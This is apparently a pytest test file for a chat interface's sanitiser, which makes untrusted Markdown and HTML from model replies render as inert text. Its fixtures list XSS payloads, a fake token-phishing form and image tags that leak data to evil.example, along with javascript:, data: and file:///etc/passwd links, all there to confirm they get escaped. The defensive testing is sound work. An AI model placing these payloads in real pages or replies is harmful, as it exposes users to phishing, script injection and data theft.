"""Untrusted text renders inert: the Markdown neutraliser and the plain-text helpers (ui.inert)."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from markdown_it import MarkdownIt

from ui.inert import (
    html_text,
    http_url,
    markdown_code,
    markdown_link,
    markdown_text,
    neutralise_continuation,
    neutralise_markdown,
)

# A second opinion: a full CommonMark parser (HTML on) must find no HTML and no image in the output.
COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
COMMONMARK.validateLink = lambda url: True

HOSTILE = {
    "form": '<form action="http://evil.example/steal"><input type="password" name="token">'
            '<button>Sign in again</button></form>',
    "input": "Session expired: <input type=password placeholder='your token'>",
    "button": "<button onclick=\"alert(1)\">OK</button>",
    "iframe": '<iframe src="http://evil.example/"></iframe>',
    "script": "<script>alert(document.cookie)</script>",
    "style": "<style>body{display:none}</style>",
    "style attribute": '<p style="background:url(http://evil.example/x.png)">hi</p>',
    "link": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/">',
    "img onerror": "<img src=x onerror=alert(1)>",
    "a onclick": '<a href="#" onclick="alert(1)">click</a>',
    "svg onload": "<svg onload=alert(1)>",
    "html img": '<img src="http://evil.example/leak?q=secret">',
    "comment": "<!-- <img src=http://evil.example/> -->",
    "autolink javascript": "<javascript:alert(1)>",
    "split tag": "<\nimg src=http://evil.example/x.png>",
}


def html_and_images(markdown: str) -> list[str]:
    """What a CommonMark renderer would turn into live HTML or a fetched image."""
    found = []
    for token in COMMONMARK.parse(markdown):
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or []:
            if child.type in ("html_inline", "image"):
                found.append(child.type + ":" + (child.content or str(child.attrs)))
    return found


@pytest.mark.parametrize("name", HOSTILE)
def test_html_from_a_model_shows_as_text(name):
    out = neutralise_markdown(HOSTILE[name])
    assert "<" not in out
    assert html_and_images(out) == []
    assert "&lt;" in out


@pytest.mark.parametrize("name", HOSTILE)
def test_html_in_the_middle_of_markdown_shows_as_text(name):
    text = f"Please **re-enter** your token:\n\n{HOSTILE[name]}\n\n- then continue"
    out = neutralise_markdown(text)
    assert "<" not in out and html_and_images(out) == []
    assert out.startswith("Please **re-enter** your token:") and out.endswith("- then continue")


def test_event_handler_attributes_are_never_live():
    out = neutralise_markdown('<img src=x onerror=alert(1)> and <a href="#" onclick="steal()">x</a>')
    assert out == '&lt;img src=x onerror=alert(1)> and &lt;a href="#" onclick="steal()">x&lt;/a>'


@pytest.mark.parametrize("text, expected", [
    ("![chart](http://evil.example/leak?q=secret)", "[chart](http://evil.example/leak?q=secret)"),
    ('See ![a "diagram"](https://x.example/d.png "title") here',
     'See [a "diagram"](https://x.example/d.png "title") here'),
    ("![logo][ref]\n\n[ref]: http://evil.example/l.png", "[logo][ref]\n\n[ref]: http://evil.example/l.png"),
    ("![ref][]\n\n[ref]: http://evil.example/l.png", "[ref][]\n\n[ref]: http://evil.example/l.png"),
    ("![ref]\n\n[ref]: http://evil.example/l.png", "\\![ref]\n\n[ref]: http://evil.example/l.png"),
    ("Nested ![![x](http://a.example/1.png)](http://b.example/2.png)",
     "Nested [[x](http://a.example/1.png)](http://b.example/2.png)"),
    ("Half an image while streaming: ![alt](http://evil.ex", "Half an image while streaming: [alt](http://evil.ex"),
    ("Wow![not an image", "Wow\\![not an image"),
    ("\\![escaped](http://x.example/a.png)", "\\![escaped](http://x.example/a.png)"),
])
def test_markdown_images_become_links(text, expected):
    out = neutralise_markdown(text)
    assert out == expected
    assert html_and_images(out) == []


def test_an_image_becomes_a_link_labelled_with_its_alt_text():
    tokens = COMMONMARK.parseInline(neutralise_markdown("![the chart](https://x.example/c.png)"))[0].children
    assert [t.type for t in tokens] == ["link_open", "text", "link_close"]
    assert tokens[1].content == "the chart" and tokens[0].attrs["href"] == "https://x.example/c.png"


@pytest.mark.parametrize("text", [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](java&#115;cript:alert(1))",
    "[click](java\\script:alert(1))",  # a backslash there makes it a relative link
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](file:///etc/passwd)",
    "![img](javascript:alert(1))",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click][r]\n\n[r]:\n  javascript:alert(1)",
    "> [r]: javascript:alert(1)",
])
def test_links_to_unsafe_schemes_are_shown_as_text(text):
    out = neutralise_markdown(text)
    for token in COMMONMARK.parse(out):
        for child in token.children or []:
            if child.type == "link_open":  # only relative links may remain
                assert urlsplit(child.attrs["href"]).scheme in ("", "http", "https", "mailto"), (text, out)
    assert html_and_images(out) == []


@pytest.mark.parametrize("text", [
    "[docs](https://example.com/a_(b)) and [mail](mailto:a@example.com) and [here](#section)",
    "[rel](/path/to/page) and [proto](//example.com/x)",
    "[ok][r]\n\n[r]: https://example.com/",
])
def test_safe_links_are_unchanged(text):
    assert neutralise_markdown(text) == text


FENCES = [
    "```html\n<div class=\"a\">a < b && c > d</div>\n<script>alert(1)</script>\n```",
    "~~~\n<form><input type=password></form>\n![img](http://x.example/a.png)\n~~~",
    "````md\n```mermaid\n<img src=x>\n```\n````",
    "1. Run this:\n   ```sh\n   cat <file> | grep '<tag>'\n   ```\n2. Then <b>this</b>",
    "> Quoted code:\n> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "- item\n\n  ```python\n  if a < b:\n\n      print('<div>')\n  ```",
    "```\nstreaming, not closed yet: <div>",
]


@pytest.mark.parametrize("text", FENCES)
def test_fenced_code_stays_byte_for_byte(text):
    out = neutralise_markdown(text)
    for token in COMMONMARK.parse(text):
        if token.type == "fence":
            assert token.content in "\n".join(
                t.content for t in COMMONMARK.parse(out) if t.type == "fence"), (text, out)
    assert html_and_images(out) == []


def test_code_block_example_survives_exactly():
    text = "Compare like this:\n\n```python\nif a < b and tags == ['<div>', '<br/>']:\n    pass\n```\n\nDone <i>."
    assert neutralise_markdown(text) == text.replace("<i>", "&lt;i>")


@pytest.mark.parametrize("text", [
    "Use `<div>` for blocks, `a < b` to compare and `List<String>` in Java.",
    "A heading\n\n## The `<head>` element\n\n| tag | use |\n|---|---|\n| `<br>` | line break |",
    "[`<template>`](https://developer.mozilla.org/) is a link with code in it",
])
def test_code_spans_stay_exactly(text):
    assert neutralise_markdown(text) == text


@pytest.mark.parametrize("text", [
    "Some **bold**, _italic_, ~~struck~~ and `code`.",
    "# Title\n\n- one\n- two\n  - nested\n\n1. first\n2. second",
    "A [link](https://example.com \"title\") in a sentence, and www.example.com bare.",
    "| a | b |\n|:--|--:|\n| 1 | **2** |",
    "> quoted\n> text\n\n---\n\nThe end.",
    "Math: $$ a < b $$ stays for KaTeX.",
    "Line one\nline two  \nline three",
])
def test_ordinary_markdown_is_unchanged(text):
    assert neutralise_markdown(text) == text


def test_mermaid_diagrams_show_as_code():
    """Gradio renders a mermaid fence's body as HTML (an <img> label loads); it stays code instead."""
    text = "```mermaid\ngraph TD\nA[\"<img src='http://evil.example/x.png'>\"] --> B\n```"
    out = neutralise_markdown(text)
    assert out == text.replace("```mermaid", "``` mermaid", 1)
    assert "```mermaid" not in neutralise_markdown("- ```mermaid\n  <img src=x>\n  ```")


@pytest.mark.parametrize("text", [
    # LaTeX is cut out before Markdown is parsed: a fence opener inside it does not count.
    "$$\n```\n$$\n<form><input type=password></form>\n```",
    # marked closes a ``` fence on ```~ (CommonMark does not): the rest is HTML to it.
    "```\n```~~\n<form><input type=password></form>\n```",
    "```\n```~\nx\n```\n\n```\n<form><input type=password></form>\n```",
    # marked's strikethrough, bare URLs and link destinations swallow backticks.
    "~a `b~ <form><input type=password></form> `c",
    "see http://x.example/`<img src=http://evil.example/x.png>` ok",
    "[x](a`) <img src=http://evil.example/x.png> `)",
    '[x](u "`") <img src=http://evil.example/x.png> `',
    "*a ``<img src=http://evil.example/x.png>*`` c*",
    "| `<img src=x>|` | b |\n|---|---|",
    "text `a\nb` <img src=http://evil.example/x.png> `c`",
    "\\``<img src=http://evil.example/x.png>`",
])
def test_raw_html_is_escaped_wherever_the_renderer_could_read_it_as_html(text):
    out = neutralise_markdown(text)
    assert "<img" not in out and "<form" not in out, out


def test_latex_is_left_to_katex():
    assert neutralise_markdown("$$\\frac{a}{b} < c$$ and <b>") == "$$\\frac{a}{b} < c$$ and &lt;b>"


def test_output_is_normalised_like_the_chatbot_and_stable():
    text = "  first line\r\n    indented\r\n    more <b>\r\n\r\n"
    out = neutralise_markdown(text)
    assert out == "first line\nindented\nmore &lt;b>"
    corpus = list(HOSTILE.values()) + FENCES + ["![a](http://x.example/i.png) <b>", "x\n\n```\n<y>"]
    for sample in corpus:
        once = neutralise_markdown(sample)
        assert neutralise_markdown(once) == once


def test_a_long_streamed_answer_stays_cheap_per_frame():
    """Streaming re-renders the whole answer on every frame: earlier blocks come from a cache."""
    block = "Text with `code <x>` and <b>html</b>.\n\n```py\nif a < b:\n    pass\n```\n\n"
    answer = block * 300
    frames = [answer[:end] for end in range(len(answer) - 2000, len(answer), 40)] + [answer]
    from ui import inert

    neutralise_markdown(frames[0])
    before = inert._neutral_piece_cached.cache_info()
    outputs = [neutralise_markdown(frame) for frame in frames]
    after = inert._neutral_piece_cached.cache_info()
    assert after.hits - before.hits >= 250 * len(frames)  # earlier blocks are not parsed again
    assert after.misses - before.misses <= 2 * len(frames)
    assert all("<b>" not in out for out in outputs)
    assert outputs[-1].count("if a < b:") == 300


def test_continuations_stay_inert_as_a_whole():
    previous = neutralise_markdown("Here is code:\n\n```\nx = 1")
    addition = "\n```\n<form><input type=password></form>"
    whole = previous + neutralise_continuation(previous, addition)
    assert "<form" not in whole and whole == neutralise_markdown(previous + addition)
    # A "!" that ended the last answer must not turn the continuation into an image.
    previous = neutralise_markdown("Wow!")
    whole = previous + neutralise_continuation(previous, "[x](http://evil.example/i.png)")
    assert html_and_images(whole) == [] and "<" not in whole
    assert neutralise_continuation(previous, "") == ""


@pytest.mark.parametrize("text, expected", [
    ("Fake Provider · echo · 0.42 s to first token", "Fake Provider · echo · 0.42 s to first token"),
    ("<b>bold</b> & <img src=x onerror=alert(1)>", "&lt;b&gt;bold&lt;/b&gt; &amp; &lt;img src=x onerror=alert(1)&gt;"),
    ("**not bold** `not code` [not](a link) ![no](image)",
     "\\*\\*not bold\\*\\* \\`not code\\` &#91;not&#93;(a link) !&#91;no&#93;(image)"),
    ("- not a list", "\\- not a list"),
    ("1. not a list", "1\\. not a list"),
    ("# not a heading", "\\# not a heading"),
    ("$$x$$ and ~~y~~", "\\$\\$x\\$\\$ and \\~\\~y\\~\\~"),
    ("multi\nline\n\nerror", "multi line error"),
])
def test_plain_text_as_markdown(text, expected):
    out = markdown_text(text)
    assert out == expected
    assert html_and_images(out) == []
    rendered = COMMONMARK.renderInline(out)
    assert re.sub(r"<[^>]+>", "", rendered) == rendered  # no markup at all


def test_plain_text_renders_as_itself():
    text = "Provider: rate limited (<b>slow</b> & steady) *see* [docs] `x` #1 $$"
    rendered = COMMONMARK.renderInline(markdown_text(text))
    assert rendered == text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_model_names_as_code_or_plain_text():
    assert markdown_code("meta-llama/Llama-3.1-8B-Instruct") == "`meta-llama/Llama-3.1-8B-Instruct`"
    assert markdown_code("evil`<img src=x>") == "evil\\`&lt;img src=x&gt;"


def test_toast_text_is_escaped_html():
    assert html_text("Fake Provider: <b>x</b> & 'y'") == "Fake Provider: &lt;b&gt;x&lt;/b&gt; &amp; 'y'"


@pytest.mark.parametrize("url, expected", [
    ("https://example.com/a b?q=<x>", "https://example.com/a%20b?q=%3Cx%3E"),
    ("http://example.com/wiki/A_(b)", "http://example.com/wiki/A_%28b%29"),
    ("javascript:alert(1)", None),
    (" JavaScript:alert(1)", None),
    ("java\tscript:alert(1)", None),
    ("data:text/html,<script>", None),
    ("//example.com/x", None),
    ("/relative", None),
    ("https://[::1", None),
    ("", None),
])
def test_only_http_urls_make_source_links(url, expected):
    assert http_url(url) == expected


def test_source_links():
    assert markdown_link("Example [docs]", "https://example.com/") == "[Example &#91;docs&#93;](https://example.com/)"
    # marked unescapes \\[ and \\] in link text: a title must not become an image inside its link.
    assert "[" not in markdown_link("![x](http://evil.example/i.png)", "https://example.com/")[1:-22]
    assert markdown_link("Evil", "javascript:alert(1)") == "Evil"
    assert markdown_link("", "https://example.com/") == "[https://example.com/](https://example.com/)"
    assert markdown_link("<img src=x>", "https://example.com/") == "[&lt;img src=x&gt;](https://example.com/)"


@pytest.mark.parametrize("text", [
    "Edit `~/.bashrc`, then `~/.zshrc`: both hold `<alias>` lines.",
    "The URL `https://example.com` and the tag `<div>` in one paragraph.",
    "Index `a[0]` then `b]` with `<T>`.",
])
def test_code_spans_with_tildes_urls_or_brackets_inside_stay_exactly(text):
    assert neutralise_markdown(text) == text


def test_strikethrough_reaching_into_a_code_span_escapes_it():
    out = neutralise_markdown("~a `b~ <img src=http://evil.example/x.png> ` `c`")
    assert "<img" not in out


# -- where the chat turns are rendered (ui.chat) -------------------------------------------------
def test_every_part_of_a_turn_is_rendered_inert():
    from playground.service import Turn
    from providers import Reply, Source
    from ui.chat import error_block, turn_messages

    payload = '<form action="http://evil.example/"><input type="password"></form> ![x](http://evil.example/i.png)'
    reply = Reply(text=payload, reasoning=payload, status=payload,
                  sources=[Source(payload, "javascript:alert(1)"), Source("Docs <b>", "https://example.com/a b")])
    turn = Turn(provider_id="fake", provider="Fake <b>Provider</b>", model="<img src=x onerror=alert(1)>",
                reply=reply)
    messages = turn_messages(turn, done=True, error=payload)
    shown = [m.content for m in messages if isinstance(m.content, str)]
    shown += [str((m.metadata or {}).get("title", "")) for m in messages]
    for text in shown:
        assert "<" not in text and html_and_images(text) == [], text
    sources = next(m.content for m in messages if (m.metadata or {}).get("title") == "Sources")
    assert sources.splitlines()[1] == "2. [Docs &lt;b&gt;](https://example.com/a%20b)"
    assert "javascript:" not in sources
    status = turn_messages(Turn(provider_id="fake", provider="Fake", model="m", reply=Reply(status=payload)))
    assert "<" not in status[0].metadata["title"]
    assert "<" not in error_block("<b>x</b>").metadata["title"]


def test_a_continued_answer_stays_inert_once_appended():
    from playground.service import Turn
    from providers import Reply
    from ui.chat import turn_messages

    previous = neutralise_markdown("Code so far:\n\n```html\n<p>unclosed")
    turn = Turn(provider_id="fake", provider="Fake", model="m",
                reply=Reply(text="</p>\n```\n<form><input type=password></form>"))
    continued = turn_messages(turn, continues=previous)[0].content
    assert "<form" not in previous + continued
    assert (previous + continued).startswith("Code so far:\n\n```html\n<p>unclosed</p>\n```\n&lt;form>")


def as_marked_reads_link_text(markdown: str) -> str:
    """marked unescapes \\[ and \\] in link text before parsing it; do it everywhere (a superset)."""
    return re.sub(r"\\([\[\]])", r"\1", markdown)


@pytest.mark.parametrize("text", [
    "[a !\\[b\\](http://evil.example/i.png) c](https://ok.example/)",
    "[a !\\\\\\[b\\](http://evil.example/i.png) c](https://ok.example/)",
    "[x][r] and !\\[b\\](http://evil.example/i.png)\n\n[r]: https://ok.example/",
])
def test_escaped_brackets_after_a_bang_cannot_become_an_image_in_link_text(text):
    out = neutralise_markdown(text)
    assert html_and_images(as_marked_reads_link_text(out)) == [], out


def test_unsafe_links_stay_text_even_inside_link_text():
    out = neutralise_markdown("[outer [in](javascript:alert(1)) text](https://ok.example/)")
    for token in COMMONMARK.parse(as_marked_reads_link_text(out)):
        for child in token.children or []:
            if child.type == "link_open":
                assert child.attrs["href"] == "https://ok.example/", out
